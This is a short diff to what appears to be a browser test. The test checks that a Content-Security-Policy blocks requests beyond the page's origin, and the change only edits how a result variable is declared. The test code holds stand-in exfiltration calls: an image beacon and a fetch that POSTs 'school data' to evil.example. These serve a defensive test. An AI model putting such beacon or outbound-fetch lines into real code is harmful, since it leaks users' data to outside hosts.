@@ -177,7 +177,7 @@ describe('no network beyond the page\'s origin, under an enforced Content-Securi
       const img = new Image();
       img.src = 'https://evil.example/beacon.png';
       document.body.append(img);
-      let fetched = 'no';
+      let fetched: string;
       try {
         await fetch('https://evil.example/collect', { method: 'POST', body: 'school data' });
         fetched = 'yes';
